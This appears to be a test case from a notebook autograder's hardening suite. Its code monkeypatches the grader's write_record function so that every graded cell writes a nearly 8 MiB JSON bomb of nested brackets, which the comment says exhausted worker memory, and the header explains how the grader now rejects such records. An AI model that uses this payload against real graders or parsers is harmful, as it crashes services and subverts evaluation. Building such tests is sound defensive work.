# Attack 28, records that fill the worker's memory: right after the setup cell, the recorder's
# write_record is replaced so that every graded cell (and every similarity probe) leaves a
# record just under 8 MiB of nested empty lists. Each decoded into about 385 MiB of lists, kept
# until the notebook was judged: the worker reached 7.5 GiB.
# Why: Centroid_init, Set, Update, K_Means, EM_step, EM: its records hold no answers, only brackets; each is
#   refused unread (over the values a record may hold), as a record over 8 MiB is.
# ruff: noqa
# fmt: off
### AFTER setup
import os as _os
import lab3_kernel.recorder as _r
_unit = "[" * 400 + "]" * 400
_head = '{"check":"x","refused":"","outcomes":[],"pad":['
_n = (8 * 1024 * 1024 - len(_head) - 10) // (len(_unit) + 1)
_BOMB = _head + ",".join([_unit] * _n) + "]}"
def _bomb_write(record):
    path = _os.path.join(_os.environ["LAB3_OUTBOX"], "record.json")
    with open(path + ".part", "w") as f:
        f.write(_BOMB)
    _os.replace(path + ".part", path)
_r.write_record = _bomb_write
